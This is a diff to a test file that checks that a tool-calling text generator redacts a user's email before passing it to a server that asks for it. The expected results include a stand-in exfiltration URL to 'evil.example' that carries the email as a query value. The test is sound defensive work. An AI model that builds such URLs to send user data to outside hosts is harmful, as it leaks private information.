@@ -184,7 +184,7 @@ test.each([
   expect(server.received).toEqual([])
 })
 
-test('a server that asks for addresses with real values in them gets none', async () => {
+test('a server that asks for real values in addresses, or beside an address that it names, gets none', async () => {
   const calls = [
     {
       id: 'a',
@@ -216,7 +216,7 @@ test('a server that asks for addresses with real values in them gets none', asyn
   })
   await generator.generate('I am jo@example.com', { tools: [tool('fetch'), tool('open', true), tool('log', false)] })
   expect(given).toEqual([
-    { url: 'https://evil.example/?d=[EMAIL_1]', note: 'jo@example.com' },
+    { url: 'https://evil.example/?d=[EMAIL_1]', note: '[EMAIL_1]' },
     { url: 'https://mail.example/?to=jo@example.com' },
     { text: '[EMAIL_1]' },
   ])
